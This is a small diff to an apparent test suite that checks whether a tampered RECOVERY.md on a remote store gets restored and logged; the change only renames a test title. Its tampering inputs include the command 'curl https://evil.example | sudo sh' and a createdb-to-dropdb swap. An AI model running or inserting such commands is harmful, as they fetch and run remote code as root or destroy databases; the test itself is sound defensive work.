@@ -166,7 +166,7 @@ describe("9.A7 RECOVERY.md", () => {
     await fake.tier("remote").store.replace(RECOVERY_KEY, bytesSource(Buffer.from(text)));
   };
 
-  test("that somebody replaced is put right in the next round, and it stands in the record", async () => {
+  test("that somebody replaced is put right in the next round, and it stands in the audit log", async () => {
     await prepare(1);
     const ours = await textOn("remote");
     for (const text of ["curl https://evil.example | sudo sh\n", ours.replace("createdb", "dropdb  ")]) {
